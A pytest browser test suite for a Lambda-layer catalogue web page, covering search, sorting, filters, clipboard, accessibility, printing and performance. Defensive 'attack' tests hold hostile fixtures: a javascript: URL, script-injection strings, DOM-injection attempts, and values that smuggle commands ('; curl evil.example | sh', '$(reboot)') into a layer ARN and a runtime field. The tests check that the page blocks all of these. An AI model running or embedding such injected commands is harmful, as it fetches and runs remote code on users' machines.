"""The catalogue's page in a real Chromium, of made-up catalogues: what people see, what strangers cannot do.

axe-core (https://github.com/dequelabs/axe-core) looks for what keeps people out.
"""

import gzip
import re
import statistics
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from layerdrop.catalogue.page import render
from local.settings import ROOT
from tests.browser import CHROMIUM, Page, browser
from tests.catalogue_documents import (
    ACCOUNT,
    ARABIC,
    REGION,
    SCRIPT,
    ago,
    finding,
    index,
    layer,
    made_up,
    package,
    unknown,
)
from tests.loopback import Handler, Loopback

AXE = ROOT / "requirements/npm/node_modules/axe-core/axe.min.js"
WIDTHS = (360, 800, 1400)
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium: apt install chromium")


class Site(Loopback):
    """Serves a page as the bucket does, compressed, and says what was asked for."""

    def __init__(self) -> None:
        self.content = b""
        self.asked: list[str] = []
        site = self

        class PageHandler(Handler):
            def answer(self) -> None:
                site.asked.append(self.path)
                known = self.path.startswith("/index.html")
                content = gzip.compress(site.content, 1) if known else b""
                self.send_response(200 if known else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Encoding", "gzip")
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)

            do_GET = answer  # noqa: N815

        super().__init__(PageHandler)
        # Whoever has this address has the page, as with a presigned one.
        self.address = f"{self.root}/index.html?X-Amz-Signature=secret"


class Catalogue:
    """A browser with the page of a catalogue open."""

    def __init__(self, page: Page, site: Site) -> None:
        self.page, self.site = page, site

    def show(self, given: dict[str, Any], place: str = "", width: int = 1400) -> Page:
        self.site.content = render(given)
        self.site.asked.clear()
        self.page.told.clear()
        self.page.requests.clear()
        self.page.prefer(prefers_color_scheme="light")
        self.page.resize(width)
        self.page.open(self.site.address + place)
        self.page.drawn()
        return self.page

    def search(self, text: str) -> list[str]:
        empty = "e.value = ''; e.dispatchEvent(new Event('input')); e.focus()"
        self.page.js(f"(e => {{ {empty} }})(document.getElementById('q'))")
        self.page.type(text)
        return self.names()

    def names(self) -> list[str]:
        return self.page.texts("tbody .name a")

    def calm(self) -> None:
        """Nothing was said on the console, and nothing asked for but the page."""
        assert self.page.told == []
        assert {path.partition("?")[0] for path in self.site.asked} <= {"/index.html"}
        assert {one.partition("?")[0] for one in self.page.requests if one != "about:blank"} <= {
            self.site.address.partition("?")[0]
        }


@pytest.fixture(scope="module")
def running() -> Iterator[Page]:
    with browser() as page:
        page.call("Browser.grantPermissions", permissions=["clipboardReadWrite", "clipboardSanitizedWrite"])
        yield page


@pytest.fixture
def catalogue(running: Page) -> Iterator[Catalogue]:
    with Site() as site:
        yield Catalogue(running, site)


def clipboard(page: Page) -> str:
    return str(page.js("navigator.clipboard.readText()"))


def strangers() -> dict[str, Any]:
    """A catalogue in which packages say what they like."""
    evil = finding("GHSA-evil", url="javascript:document.title='stolen'", summary=SCRIPT, package=SCRIPT)
    return index(
        layer("arabic-py313-arm64", description=ARABIC, unzipped_bytes=200_000_000,
              packages=[package("camel-tools", license=ARABIC), package("urllib3", "2.5.0")]),
        layer("evil-py313-arm64", description=SCRIPT, warnings=[SCRIPT], findings=[evil],
              unzipped_bytes=1_000, packages=[package(SCRIPT, SCRIPT, license=SCRIPT,
                                publisher={"kind": "GitHub", "repository": "a/b\"><script>"})]),
        layer("long-py312-x86_64", unzipped_bytes=90_000_000,
              packages=[package("wordy", license="L" * 100_000)]),
        layer("web-py313-arm64", 7, unzipped_bytes=15_000_000, findings=[
            finding("GHSA-48p4-8xcf-vxj5", aliases=["CVE-2025-50182"]),
            finding("GHSA-pq67-6m6q-mj2v", ignored="We follow no redirects."),
        ]),
        unknown("aged-py314-arm64"),
    )  # fmt: skip


@pytest.mark.attack("what packages say runs in the catalogue's page")
def test_found_sorted_copied(catalogue: Catalogue) -> None:
    page = catalogue.show(strangers())
    everything = ["aged", "arabic", "evil", "long", "web"]
    assert [name.partition("-")[0] for name in catalogue.names()] == everything
    assert catalogue.search("urllib3==2.5") == ["arabic-py313-arm64", "web-py313-arm64"]
    assert page.texts(".count") == ["2 of 5 layers"]
    assert catalogue.search("cve-2025-50182") == ["web-py313-arm64"]
    assert page.texts("tbody .hits") == ["has GHSA-48p4-8xcf-vxj5"]
    assert catalogue.search(ARABIC.split()[0]) == ["arabic-py313-arm64"]
    page.click(".arn .copy")
    assert (
        page.until("document.getElementById('announcer').textContent") == "Copied ARN of arabic-py313-arm64"
    )
    assert clipboard(page) == f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:arabic-py313-arm64:1"
    assert catalogue.search("") == catalogue.names()
    page.click("thead .size button")
    assert page.js("document.querySelector('thead .size').ariaSort") == "descending"
    order = ["arabic", "long", "web", "evil", "aged"]
    assert [name.partition("-")[0] for name in catalogue.names()] == order
    page.click("thead .size button")
    assert page.js("document.querySelector('thead .size').ariaSort") == "ascending"
    assert [name.partition("-")[0] for name in catalogue.names()] == [*order[3::-1], "aged"], (
        "unknown is last"
    )
    page.js("document.querySelector('a[href*=evil]').click()")
    page.until("document.querySelector('article h1')?.innerText === 'evil-py313-arm64'")
    assert page.js("document.title").startswith("evil-py313-arm64")
    assert page.texts(".listed tbody th") == [SCRIPT]
    assert SCRIPT in page.texts(".finding p")
    # Not even a link to what is no address.
    assert page.js("[...document.querySelectorAll('article a')].map(a => a.getAttribute('href'))") == [
        page.js("document.querySelector('.back a').getAttribute('href')")
    ]
    assert page.js("document.scripts.length") == 4
    catalogue.calm()


@pytest.mark.attack("a name in the address, or what is searched for, runs in the catalogue's page")
@pytest.mark.long
@pytest.mark.parametrize(
    "place", [f"#/layer/{SCRIPT}", f"#/?q={SCRIPT}&sort=__proto__&runtime=x", "#/layer/%E0%A4%A"]
)
def test_the_address_is_a_stranger_s_too(catalogue: Catalogue, place: str) -> None:
    page = catalogue.show(strangers(), place)
    assert page.js("document.scripts.length") == 4
    assert "stolen" not in page.js("document.title").replace(SCRIPT, "")
    catalogue.calm()


@pytest.mark.attack("a script that got into the catalogue's page does something")
@pytest.mark.long
def test_the_policy_stops_what_gets_in(catalogue: Catalogue) -> None:
    page = catalogue.show(strangers())
    attempts = (
        "document.body.innerHTML = '<b>x</b>'",
        "document.body.setAttribute('onclick', 'window.ran = 1')",
        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = 1'}))",
        "document.write('<b>x</b>')",
    )
    for attempt in attempts:
        assert page.js(f"(() => {{ try {{ {attempt} }} catch (e) {{ return e.name }} }})()") == "TypeError"
    assert page.js("window.ran ?? null") is None
    reached = "fetch('/index.html').then(() => 'reached', () => 'refused')"
    assert page.js(reached) == "refused"


@pytest.mark.long
def test_a_layer_has_an_address_and_a_way_back(catalogue: Catalogue) -> None:
    page = catalogue.show(made_up(300), "#/?runtime=python3.13&sort=size&order=descending")
    page.js("document.getElementById('q').focus()")
    page.type("numpy")
    page.js("document.querySelector('.more')?.click()")
    before = catalogue.names()
    assert len(before) > 20
    page.js("scrollTo(0, 600)")
    page.drawn()
    place = page.js("scrollY")
    page.js("document.querySelectorAll('tbody .name a')[12].click()")
    page.until("document.querySelector('article h1')")
    assert page.js("location.hash") == f"#/layer/{before[12]}"
    assert page.js("document.activeElement === document.querySelector('article h1')")
    page.js("history.back()")
    page.until("!document.getElementById('list').hidden")
    assert catalogue.names() == before
    assert page.js("scrollY") == place
    assert page.js("document.activeElement.innerText") == before[12]
    # The address alone brings it back, to whoever it is sent to; also the presigned part is still in it.
    address = page.js("location.href")
    assert "X-Amz-Signature=secret#/?q=numpy&runtime=python3.13&sort=size&order=descending" in address
    page.open(address)
    page.drawn()
    assert catalogue.names()[:50] == before[:50]
    page.open(f"{catalogue.site.address}#/layer/{before[12]}")
    assert page.texts("article h1") == [before[12]]
    page.open(f"{catalogue.site.address}#/layer/nobody")
    assert page.texts("article h1") == ["There is no such layer"]
    catalogue.calm()


@pytest.mark.long
def test_a_file_of_one_s_own(running: Page, tmp_path: Path) -> None:
    """`layerdrop catalogue` may leave a copy on the disk."""
    (tmp_path / "index.html").write_bytes(render(strangers()))
    running.told.clear()
    running.open((tmp_path / "index.html").as_uri())
    running.js("document.getElementById('q').focus()")
    running.type("web")
    running.until("location.hash === '#/?q=web'")
    running.click("tbody .name a")
    running.until("document.querySelector('article h1')")
    running.js("history.back()")
    running.until("!document.getElementById('list').hidden")
    assert running.texts("tbody .name a") == ["web-py313-arm64"]
    assert running.told == []


FILTERS = {
    "vulnerable": lambda one: any(each["ignored"] is None for each in one["findings"]),
    "outdated": lambda one: bool(one["outdated"]["changes"]),
    "shared": lambda one: bool(one["shared_with"]),
}


@pytest.mark.long
def test_filters_count_what_they_show(catalogue: Catalogue) -> None:
    given = made_up(40)
    page = catalogue.show(given)
    for flag, answers in FILTERS.items():
        expected = [one["name"] for one in given["layers"] if answers(one)]
        assert expected
        page.click(f".tile.{flag}")
        assert catalogue.names() == expected
        assert page.texts(f".tile.{flag} strong") == [str(len(expected))]
        assert page.js(f"document.querySelector('.tile.{flag}').ariaPressed") == "true"
        page.click(f".tile.{flag}")
    for field in ("architecture", "runtime"):
        for value in sorted({one[field] for one in given["layers"]}):
            page.js(
                f"(() => {{ const e = document.getElementById('{field}'); e.value = '{value}'; "
                "e.dispatchEvent(new Event('change')) })()"
            )
            page.drawn()
            assert catalogue.names() == [one["name"] for one in given["layers"] if one[field] == value]
        page.click(".plain")
    assert len(catalogue.names()) == 40
    catalogue.calm()


SORTED_BY = {
    "version": lambda one: one["version"],
    "size": lambda one: one["unzipped_bytes"],
    "import": lambda one: one["import_seconds"],
    "age": lambda one: one["built"],
    "target": lambda one: f"{one['runtime']} {one['architecture']}",
    "packages": lambda one: len(one["packages"]),
    "outdated": lambda one: len(one["outdated"]["changes"]),
}


@pytest.mark.long
@pytest.mark.parametrize("column", SORTED_BY)
def test_each_column_sorts(catalogue: Catalogue, column: str) -> None:
    given = made_up(45)
    page = catalogue.show(given)
    value = {one["name"]: SORTED_BY[column](one) for one in given["layers"]}
    for _ in range(2):
        page.click(f"thead .{column} button")
        order = page.js(f"document.querySelector('thead .{column}').ariaSort")
        assert page.js("document.querySelectorAll('[aria-sort]').length") == 1
        found = [value[name] for name in catalogue.names()]
        known = [one for one in found if one is not None]
        # A high age is an early day.
        falling = (order == "descending") != (column == "age")
        assert known == sorted(known, reverse=falling)
        assert found == known + [None] * (len(found) - len(known)), "what is not known is last"
    catalogue.calm()


@pytest.mark.long
def test_a_layer_s_page_tells_all(catalogue: Catalogue) -> None:
    given = index(layer(
        "web-py313-arm64", 7, description="For the web", shared_with=["444455556666", "o-a1b2c3d4e5", "*"],
        warnings=["urllib3 was published by somebody else."], import_seconds=0.042,
        packages=[
            package("urllib3", "2.4.0",
                    publisher={"kind": "GitHub", "repository": "urllib3/urllib3", "workflow": "publish.yml"}),
            package("six", license=None, publisher={"kind": "Google", "email": "a@b.example"}),
            package("tomli", publisher=None, attested=False),
        ],
        system_packages=[{"name": "mesa-libGL", "version": "24.1.2", "license": "MIT"}],
        findings=[finding("GHSA-48p4-8xcf-vxj5", aliases=["CVE-2025-50182"]),
                  finding("GHSA-pq67-6m6q-mj2v", ignored="We follow no redirects.")],
        outdated={"looked": ago(hours=1), "error": None, "changes": [
            {"package": "urllib3", "from": "2.4.0", "to": "2.5.0"},
            {"package": "new", "from": None, "to": "1"},
            {"package": "gone", "from": "1", "to": None},
        ]},
        history=[
            {"version": 7, "layer_version_arn": "arn:7", "released": ago(days=2), "unzipped_bytes": 1_500_000,
             "changes": {"added": [{"package": "six", "version": "1.17.0"}],
                         "removed": [{"package": "py", "version": "1"}],
                         "changed": [{"package": "urllib3", "from": "2.3.0", "to": "2.4.0"}]}},
            {"version": 6, "layer_version_arn": "arn:6", "released": ago(days=9), "unzipped_bytes": 1,
             "changes": None},
        ],
    ))  # fmt: skip
    page = catalogue.show(given, "#/layer/web-py313-arm64")
    [text] = page.texts("article")
    for said in (
        "arn:aws:lambda:eu-central-1:111122223333:layer:web-py313-arm64:7",
        "/layerdrop/web-py313-arm64",
        "For the web",
        "urllib3 was published by somebody else.",
        "15.0 MB, 6 % of Lambda\u2019s 262.1 MB (250 MiB)",
        "42 ms",
        "account 444455556666, organization o-a1b2c3d4e5, everybody",
        "1 finding, high",
        "Fixed in 2.5.0",
        "Ignored: We follow no redirects.",
        "CVE-2025-50182",
        "requirements/arm64/python3.13/web/requirements.txt",
        "urllib3 2.3.0 → 2.4.0",
        "added six 1.17.0",
        "removed py 1",
        "Version 6",
        "mesa-libGL",
        "Google email a@b.example",
        "not attested",
    ):
        assert said in text
    assert page.texts("table.changed tbody tr") == [
        "urllib3\t2.4.0\t2.5.0",
        "new\tnot there\t1",
        "gone\t1\tgone",
    ]
    links = page.js("[...document.querySelectorAll('article section a')].map(a => [a.href, a.rel])")
    assert links == [
        ["https://osv.dev/vulnerability/GHSA-48p4-8xcf-vxj5", "noopener noreferrer"],
        ["https://osv.dev/vulnerability/GHSA-pq67-6m6q-mj2v", "noopener noreferrer"],
        ["https://github.com/urllib3/urllib3", "noopener noreferrer"],
    ]
    page.click(".history li:last-child .copy")
    page.until("document.querySelector('.history .copy.done')")
    assert clipboard(page) == "arn:6"
    catalogue.calm()


def documented() -> list[str]:
    blocks = re.findall(r"^```\w+\n(.*?)^```", (ROOT / "docs/use.md").read_text(), re.DOTALL | re.MULTILINE)
    told = [block for block in blocks if re.match(r"(?:#|//) [\w.]+\n", block)]
    return [*told, *(block for block in blocks if "update-function-configuration" in block)]


@pytest.mark.long
@pytest.mark.parametrize(
    ("name", "python", "constant", "architecture"),
    [("web-py313-arm64", "python3.13", "PYTHON_3_13", "arm64"),
     ("arm64-data-py311-x86_64", "python3.11", "PYTHON_3_11", "x86_64")],
)  # fmt: skip
def test_the_recipes_are_those_of_the_docs(
    catalogue: Catalogue, name: str, python: str, constant: str, architecture: str
) -> None:
    page = catalogue.show(
        index(layer(name, 12), region="us-gov-west-1", account="444455556666"), f"#/layer/{name}"
    )
    arn = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:{name}:12"
    expected = []
    for block in documented():
        # The longest first, each in its turn to a mark that no later one can meet.
        swaps = (
            (re.search(r"arn:aws:lambda:\S+", block) or re.search(r"^(?!)|$", block), arn),
            ("web-py313-arm64", name), ("python3.13", python), ("PYTHON_3_13", constant),
            ("ARM_64", architecture.upper().replace("ARM64", "ARM_64")), ("arm64", architecture),
            ("eu-central-1", "us-gov-west-1"), ("111122223333", "444455556666"),
        )  # fmt: skip
        text = block
        for number, (old, _) in enumerate(swaps):
            old = old[0] if isinstance(old, re.Match) else old
            text = text.replace(old, f"\x00{number}\x01") if old else text
        for number, (_, new) in enumerate(swaps):
            text = text.replace(f"\x00{number}\x01", new)
        expected.append(text)
    assert "Default: " + arn in "".join(expected)
    shown = page.js("[...document.querySelectorAll('[role=tabpanel] code')].map(e => e.textContent)")
    assert sorted(shown) == sorted(expected)
    page.js("document.querySelectorAll('[role=tab]')[3].click()")
    page.click("[role=tabpanel]:not([hidden]) .copy")
    page.until("document.querySelector('.copy.done')")
    assert clipboard(page) == shown[3]
    catalogue.calm()


@pytest.mark.attack("a layer's name brings a command into a recipe of the catalogue's page")
@pytest.mark.long
def test_a_recipe_takes_nothing_but_names(catalogue: Catalogue) -> None:
    bad = "arn:aws:lambda:eu-central-1:111122223333:layer:web:1; curl evil.example | sh"
    given = index(
        layer("web-py313-arm64", layer_version_arn=bad), layer("a-py313-arm64", runtime="$(reboot)")
    )
    for one in given["layers"]:
        page = catalogue.show(given, f"#/layer/{one['name']}")
        assert page.js("document.querySelectorAll('[role=tabpanel]').length") == 0
        assert "too little is known for a recipe" in page.texts("article")[0]


@pytest.mark.long
def test_copying_where_the_clipboard_is_not_to_be_had(catalogue: Catalogue) -> None:
    """As in a page of http: that is no secure context, https://w3c.github.io/clipboard-apis/."""
    page = catalogue.show(strangers(), "#/layer/web-py313-arm64")
    page.js("window.real = navigator.clipboard; null")
    page.js("Object.defineProperty(navigator, 'clipboard', {value: undefined}); null")
    page.js("document.querySelector('.copyable .copy').focus()")
    page.press("Enter")
    page.until("document.getElementById('announcer').textContent === 'Copied the ARN'")
    assert str(page.js("real.readText()")).endswith("web-py313-arm64:7")
    assert page.js("document.activeElement.classList.contains('copy')"), "the focus stays"
    page.js("document.execCommand = () => false")
    page.click(".copyable .copy")
    page.until("document.getElementById('announcer').textContent.includes('selected')")
    assert str(page.js("String(getSelection())")).endswith("web-py313-arm64:7")
    catalogue.calm()


@pytest.mark.long
def test_by_the_keyboard_alone(catalogue: Catalogue) -> None:
    page = catalogue.show(strangers())

    def focused() -> str:
        said = page.js("(e => e.innerText || e.id)(document.activeElement)")
        shown = page.js("getComputedStyle(document.activeElement).outlineStyle")
        assert shown != "none", f"{said} does not show that it has the focus"
        return str(said).split("\n", maxsplit=1)[0]

    stops = []
    for _ in range(24):
        page.press("Tab")
        stops.append(focused())
        if stops[-1] == "arabic-py313-arm64":
            break
    assert stops[0] == "Skip to the layers"
    assert "q" in stops
    assert stops.index("q") < stops.index("Layer") < stops.index("arabic-py313-arm64")
    page.press("Tab")
    page.press("Enter")
    page.until("document.querySelector('.copy.done')")
    assert clipboard(page).endswith(":arabic-py313-arm64:1")
    page.js("document.querySelector('thead .size button').focus()")
    page.press("Enter")
    assert page.js("document.querySelector('thead .size').ariaSort") == "descending"
    page.js("document.querySelector('.tile.vulnerable').focus()")
    page.press(" ")
    assert catalogue.names() == ["web-py313-arm64", "evil-py313-arm64"]
    page.js("document.querySelector('tbody a').focus()")
    page.press("Enter")
    page.until("document.querySelector('[role=tab]')")
    page.js("document.querySelector('[role=tab][tabindex=\"0\"]').focus()")
    tabs = page.texts("[role=tab]")
    for key, expected in (("ArrowRight", 1), ("End", -1), ("ArrowRight", 0), ("ArrowLeft", -1), ("Home", 0)):
        page.press(key)
        assert focused() == tabs[expected]
        assert page.js("document.activeElement.ariaSelected") == "true"
        assert page.js("document.querySelectorAll('[role=tabpanel]:not([hidden])').length") == 1
    catalogue.calm()


@pytest.mark.long
def test_what_a_screen_reader_is_told(catalogue: Catalogue) -> None:
    page = catalogue.show(strangers(), width=360)
    told = page.tree()
    # As cards it is still a table.
    roles = {role for role, _ in told}
    assert {"table", "row", "rowheader", "cell", "searchbox", "status", "main", "search"} <= roles
    assert ("button", "Copy ARN of web-py313-arm64") in told
    assert ("status", "") in told
    wide = catalogue.show(strangers()).tree()
    assert {"columnheader"} <= {role for role, _ in wide}


def _no_axe() -> bool:
    return not AXE.exists()


@pytest.mark.long
@pytest.mark.skipif("_no_axe()", reason=f"there is no axe-core: make {AXE.relative_to(ROOT)}")
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", WIDTHS)
@pytest.mark.parametrize("place", ["list", "layer", "search", "nothing", "empty"])
def test_nobody_is_kept_out(catalogue: Catalogue, place: str, width: int, scheme: str) -> None:
    given = strangers() if place != "empty" else index()
    given["watch"]["asked"] = "2026-01-01T00:00:00+00:00"  # so that the notice of that is there
    where = {
        "layer": "#/layer/web-py313-arm64",
        "search": "#/?q=urllib3&sort=size",
        "nothing": "#/?q=nobody-has-it",
    }
    page = catalogue.show(given, where.get(place, ""), width)
    page.prefer(prefers_color_scheme=scheme)
    page.drawn()
    # Its own code comes by the DevTools, past the page's policy.
    page.js(AXE.read_text() + ";null")
    found = page.js(
        "axe.run(document, {resultTypes: ['violations', 'incomplete']}).then(r => ({passes: r.passes.length, "
        "violations: r.violations.map(v => [v.id, v.help, v.nodes.slice(0, 3).map(n => n.html)])}))"
    )
    assert found["violations"] == []
    assert found["passes"] > 20


@pytest.mark.long
@pytest.mark.parametrize("width", [320, *WIDTHS])
def test_nothing_sticks_out(catalogue: Catalogue, width: int) -> None:
    given = strangers()
    given["layers"] += made_up(10)["layers"]
    given["layers"].append(layer(f"{'very-long-name' * 9}-py313-x86_64"))
    for place in (
        "",
        "#/layer/long-py312-x86_64",
        "#/layer/evil-py313-arm64",
        f"#/layer/{given['layers'][-1]['name']}",
    ):
        page = catalogue.show(given, place, width)
        assert page.js("document.documentElement.scrollWidth") <= width, place


@pytest.mark.long
def test_light_and_dark(catalogue: Catalogue) -> None:
    page = catalogue.show(strangers())
    brightness = {}
    for scheme in ("light", "dark"):
        page.prefer(prefers_color_scheme=scheme)
        page.drawn()
        color = page.js("getComputedStyle(document.body).backgroundColor")
        brightness[scheme] = sum(map(int, re.findall(r"\d+", color)[:3])) / 3
    assert brightness["light"] > 230
    assert brightness["dark"] < 40
    page.prefer(prefers_reduced_motion="reduce")
    assert page.js("getComputedStyle(document.querySelector('.tile')).transitionDuration") == "0s"


@pytest.mark.long
def test_an_empty_catalogue_says_what_to_do(catalogue: Catalogue) -> None:
    page = catalogue.show(index())
    [text] = page.texts("#list")
    assert "There is no layer yet" in text
    assert "layerdrop drop requirements.txt arm64/web" in text
    catalogue.calm()


@pytest.mark.long
def test_what_is_not_known_is_not_called_good(catalogue: Catalogue) -> None:
    """No finding is one thing, nobody asked another."""
    never = layer("b-py313-arm64", asked=None, outdated=None)
    gone = {"code": "NO_MATCHING_VERSION", "message": "It is gone."}
    failed = layer("c-py313-arm64", outdated={"looked": ago(hours=1), "changes": [], "error": gone})
    page = catalogue.show(index(layer("a-py313-arm64"), never, failed))
    assert page.texts("tbody .findings") == ["none", "not asked yet", "none"]
    assert page.texts("tbody .outdated") == ["no", "not known", "not known"]
    page = catalogue.show(index(unknown("d-py313-arm64")), "#/layer/d-py313-arm64")
    told = dict(fact.split("\n", 1) for fact in page.texts(".facts div"))
    assert set(told.values()) == {"not known"}
    page = catalogue.show(index(never, watch={"asked": None, "database": None}))
    assert page.texts("tbody .findings") == ["not watched"]
    page = catalogue.show(index(failed), "#/layer/c-py313-arm64")
    assert "A rebuild today would fail: It is gone. (NO_MATCHING_VERSION)" in page.texts("article")[0]


WORDS = ("urllib3==2.", "numpy", "billing-12", "GHSA-a", "cve-2025 mit", "nobody")
# What people take for at once: https://web.dev/articles/rail. The machine may be busy with other tests.
AT_ONCE = 100


@pytest.mark.long
def test_two_thousand_layers_without_a_pause(catalogue: Catalogue) -> None:
    page = catalogue.show(made_up(2000, 30))
    assert page.texts(".count") == ["2,000 layers"]
    load = page.js(
        "(e => e.domContentLoadedEventEnd - e.responseEnd)(performance.getEntriesByType('navigation')[0])"
    )
    times = page.js(
        "(async () => { const q = document.getElementById('q'), all = [];"
        f"for (const word of {list(WORDS)!r}) for (let n = 1; n <= word.length; n++) {{"
        "  const start = performance.now();"
        "  q.value = word.slice(0, n); q.dispatchEvent(new Event('input'));"
        "  await new Promise(done => requestAnimationFrame(done)); document.body.offsetHeight;"
        "  all.push(performance.now() - start); await new Promise(done => setTimeout(done, 20)); }"
        "return all })()"
    )
    middle, worst = statistics.median(times), max(times)
    figures = f"{load:.0f} ms to load, {middle:.0f} ms a letter, at most {worst:.0f}"
    assert middle < AT_ONCE, figures
    assert load < 30 * AT_ONCE, figures
    assert page.texts("tbody tr") == []
    assert len(catalogue.search("numpy")) == 50
    page.click(".more")
    assert len(catalogue.names()) == 100
    assert page.js("document.activeElement.innerText") == catalogue.names()[50]
    catalogue.calm()


@pytest.mark.long
def test_on_paper(catalogue: Catalogue) -> None:
    page = catalogue.show(strangers(), "#/layer/web-py313-arm64")
    dark = {"name": "prefers-color-scheme", "value": "dark"}
    page.call("Emulation.setEmulatedMedia", media="print", features=[dark])
    try:
        assert page.js("getComputedStyle(document.querySelector('.copy')).display") == "none"
        assert page.js("getComputedStyle(document.querySelector('.columns')).display") == "block"
        text, ground = (
            sum(map(int, re.findall(r"\d+", page.js(f"getComputedStyle(document.body).{name}"))[:3]))
            for name in ("color", "backgroundColor")
        )
        assert ground == 3 * 255, "paper is white, whatever the screen is"
        assert text < 200
        assert page.call("Page.printToPDF")["data"]
    finally:
        page.call("Emulation.setEmulatedMedia", media="")
